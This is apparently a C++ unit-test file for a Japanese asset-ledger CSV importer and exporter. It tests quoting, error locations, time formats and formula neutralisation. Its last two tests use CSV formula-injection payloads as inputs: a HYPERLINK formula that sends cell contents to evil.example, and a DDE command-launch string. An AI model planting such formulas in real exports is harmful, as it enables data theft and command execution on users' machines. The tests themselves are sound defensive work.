// CSV of the asset list: RFC 4180, Japanese headers, errors that name the row and column.
#include <catch2/catch.hpp>

#include "ledger/csv.hpp"
#include "sanitize/ledger.hpp"

using namespace sanitize::ledger;
using sanitize::Errc;

namespace {

const std::string header = "資産ID,資産名,備考,管理部署,管理責任者,利用者範囲,媒体・保存場所,保存期間,機密区分,状態\r\n";

Asset nasty_asset() {
    return Asset{.asset_id = "A-001",
                 .name = "顧客名簿, 2025年度",
                 .remarks = "「氏名」\"住所\"\r\n二行目\n三行目",
                 .department = "総務部",
                 .owner = "山田 太郎",
                 .user_scope = "総務部員, 監査役",
                 .media_location = "",
                 .retention = "5年",
                 .classification = 2,
                 .status = "利用中",
                 .updated_seq = 0};
}

}  // namespace

TEST_CASE("RFC 4180 records with quotes, commas and line breaks", "[ledger][csv]") {
    auto records = detail::parse_csv("a,\"b,c\",\"d\"\"e\"\r\n\"x\ny\",,z\nlast");
    REQUIRE(records);
    REQUIRE(records->size() == 3);
    CHECK((*records)[0] == detail::CsvRecord{"a", "b,c", "d\"e"});
    CHECK((*records)[1] == detail::CsvRecord{"x\ny", "", "z"});
    CHECK((*records)[2] == detail::CsvRecord{"last"});
}

TEST_CASE("malformed CSV names the row and column", "[ledger][csv]") {
    auto unterminated = detail::parse_csv("a,b\r\nc,\"d");
    REQUIRE_FALSE(unterminated);
    CHECK(unterminated.error().context == "csv row 2 column 2");
    auto stray = detail::parse_csv("a,b\"c");
    REQUIRE_FALSE(stray);
    CHECK(stray.error().context == "csv row 1 column 2");
    auto after_quote = detail::parse_csv("\"a\"b");
    REQUIRE_FALSE(after_quote);
    CHECK(after_quote.error().context == "csv row 1 column 1");
}

TEST_CASE("asset CSV round trip with Japanese text, commas, quotes and newlines", "[ledger][csv]") {
    Asset plain;
    plain.asset_id = "B-2";
    plain.name = "n";
    const std::vector<Asset> assets{nasty_asset(), plain};
    const std::string text = assets_to_csv(assets);
    CHECK(text.starts_with(header));
    auto back = assets_from_csv(text);
    REQUIRE(back);
    CHECK(*back == assets);

    const std::string with_bom = assets_to_csv(assets, {.byte_order_mark = true});
    CHECK(with_bom.starts_with("\xEF\xBB\xBF資産ID"));
    auto back_from_bom = assets_from_csv(with_bom);
    REQUIRE(back_from_bom);
    CHECK(*back_from_bom == assets);
}

TEST_CASE("asset CSV accepts any column order and the classification's names", "[ledger][csv]") {
    auto assets = assets_from_csv("機密区分,資産名,資産ID\n社外秘,名簿,A\n極秘,契約書,B\n公知,パンフレット,C\n機密,X,D\n\n");
    REQUIRE(assets);
    REQUIRE(assets->size() == 4);
    CHECK((*assets)[0].classification == 1);
    CHECK((*assets)[1].classification == 2);
    CHECK((*assets)[2].classification == 0);
    CHECK((*assets)[3].classification == 1);
    CHECK((*assets)[0].remarks.empty());
}

TEST_CASE("asset CSV errors name the row and the column", "[ledger][csv]") {
    struct Case {
        std::string text;
        Errc code;
        std::string context;
    };
    const Case cases[] = {
        {header + "A,名簿,,,,,,,3,\r\n", Errc::malformed_input, "csv row 2 column 機密区分"},
        {header + "A,名簿,,,,,,,1,\r\n,名簿,,,,,,,1,\r\n", Errc::malformed_input, "csv row 3 column 資産ID"},
        {header + "A,,,,,,,,1,\r\n", Errc::malformed_input, "csv row 2 column 資産名"},
        {header + "A,名簿,,,,,,,1\r\n", Errc::malformed_input, "csv row 2"},
        {header + "A,名簿,,,,,,,1,\r\nA,名簿,,,,,,,1,\r\n", Errc::conflict, "csv row 3 column 資産ID"},
        {header + "A,名簿,\"番号 1234-5678-9018\",,,,,,1,\r\n", Errc::refused, "csv row 2 column 備考"},
        {"資産ID,資産名,機密区分,色\r\n", Errc::malformed_input, "csv row 1 column 4"},
        {"資産ID,資産名\r\n", Errc::malformed_input, "csv row 1 column 機密区分"},
        {"", Errc::malformed_input, "csv row 1"},
    };
    for (const Case& c : cases) {
        INFO(c.text);
        auto assets = assets_from_csv(c.text);
        REQUIRE_FALSE(assets);
        CHECK(assets.error().code == c.code);
        CHECK(assets.error().context == c.context);
    }
}

TEST_CASE("ledger times are RFC 3339 UTC with whole seconds", "[ledger][time]") {
    auto t = parse_time_text("2024-02-29T23:59:59Z");
    REQUIRE(t);
    CHECK(time_text(*t) == "2024-02-29T23:59:59Z");
    for (const char* bad : {"2023-02-29T00:00:00Z", "2025-04-01T24:00:00Z", "2025-04-01T00:00:00+09:00",
                            "2025-04-01 00:00:00Z", "2025-04-01T00:00:00.5Z", "2025-4-01T00:00:00Z"}) {
        INFO(bad);
        CHECK_FALSE(parse_time_text(bad));
    }
}

TEST_CASE("exported cells that a spreadsheet would run as formulas start with an apostrophe", "[ledger][csv]") {
    Asset asset = nasty_asset();
    asset.name = "=HYPERLINK(\"http://evil.example/\"&A1,\"見積\")";
    asset.remarks = "+81-3-1234";
    asset.department = "-2+3";
    asset.owner = "@SUM(A1:A9)";
    asset.user_scope = "\tcmd";
    asset.media_location = "\r=1+1";
    asset.retention = "'=already quoted";
    asset.status = "'plain apostrophe";
    const std::string text = assets_to_csv(std::vector<Asset>{asset});
    const std::string row = text.substr(header.size());
    CHECK(row.starts_with("A-001,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"見積\"\")\",'+81-3-1234,'-2+3,'@SUM(A1:A9),"));
    CHECK(row.find(",'\tcmd,") != std::string::npos);
    CHECK(row.find("\"'\r=1+1\"") != std::string::npos);
    CHECK(row.find(",''=already quoted,") != std::string::npos);
    CHECK(row.find(",'plain apostrophe\r\n") != std::string::npos);
    // Every cell of the row: none starts with a formula character.
    auto records = detail::parse_csv(text);
    REQUIRE(records);
    for (const std::string& cell : (*records)[1]) {
        CHECK((cell.empty() || std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos));
    }
    auto back = assets_from_csv(text);
    REQUIRE(back);
    REQUIRE(back->size() == 1);
    CHECK(back->front() == asset);
}

TEST_CASE("event lists exported as CSV neutralise formulas too", "[ledger][csv]") {
    EventRow row;
    row.event.seq = 7;
    row.event.time = "2025-06-02T01:00:00Z";
    row.event.type = EventType::media_carry_out;
    row.asset_id = "=cmd|' /C calc'!A0";
    row.summary = "-1";
    const std::string text = event_rows_to_csv(std::vector<EventRow>{row}, {});
    CHECK(text.find(",'=cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(text.find(",'-1,") != std::string::npos);
}
